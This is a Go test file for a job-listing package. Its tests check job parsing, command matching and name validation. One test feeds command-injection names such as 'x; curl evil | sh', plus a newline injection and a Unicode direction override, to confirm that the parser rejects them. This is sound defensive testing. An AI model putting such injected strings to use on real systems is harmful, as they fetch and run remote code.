package main

import (
	"encoding/json"
	"slices"
	"strings"
	"testing"

	"keyway/internal/laptop"
)

func TestRunningWith(t *testing.T) {
	const list = `[
		{"name": "a", "state": "running", "command": ["python", "x y"]},
		{"name": "b", "state": "ended", "command": ["python", "x y"]},
		{"name": "c", "state": "running", "command": ["python", "x", "y"]},
		{"name": "d", "state": "running", "command": ["python", "x y"], "holder": 7}
	]`
	jobs, err := laptop.ReadJobs([]byte(list))
	if err != nil {
		t.Fatal(err)
	}
	if got := runningWith(jobs, []string{"python", "x y"}); !slices.Equal(got, []string{"a", "d"}) {
		t.Errorf("%q", got)
	}
	for _, bad := range []string{"", "[", `{"name": 1}`} {
		if got, err := laptop.ReadJobs([]byte(bad)); err == nil {
			t.Errorf("%.20q: %q", bad, got)
		}
	}
}

// TestNamesOfJobsAreNames checks the names of jobs, which become words of commands and parts of
// questions.
func TestNamesOfJobsAreNames(t *testing.T) {
	for _, name := range []string{"", "x; curl evil | sh", "x\n  → curl evil", "-x", "../x", "x y", strings.Repeat("x", 100), "A", "\u202ex"} {
		list, err := json.Marshal([]map[string]string{{"name": name, "state": "running"}, {"name": "a", "state": "running"}})
		if err != nil {
			t.Fatal(err)
		}
		jobs, err := laptop.ReadJobs(list)
		if err != nil || len(jobs) != 1 || jobs[0].Name != "a" {
			t.Errorf("%q: %v, %v", name, jobs, err)
		}
	}
	if got := nameJobs(strings.Split(strings.Repeat("a ", 99)+"a", " ")); got != "a, a, a, a, a, a, a, a and 92 more" {
		t.Errorf("100 jobs: %q", got)
	}
}

// TestRecordOf checks that a job is found by its command although its record has less of it, or
// other bytes.
func TestRecordOf(t *testing.T) {
	long := []string{"python", strings.Repeat("x", 10), "end"}
	for _, c := range []struct {
		record, command []string
		want            bool
	}{
		{long, long, true},
		{[]string{"python", "…"}, long, true},
		{[]string{"…"}, long, true},
		{[]string{"sh", "…"}, long, false},
		{[]string{"python"}, long, false},
		{[]string{"python", long[1], "end", "…"}, long, false},
		{[]string{"echo", "\ufffd\ufffda"}, []string{"echo", "\xff\xfea"}, true},
		{[]string{"echo", "…"}, []string{"echo", "…"}, true},
		{nil, long, false},
	} {
		if got := recordOf(c.record, c.command); got != c.want {
			t.Errorf("recordOf(%q, %q) is %v", c.record, c.command, got)
		}
	}
}
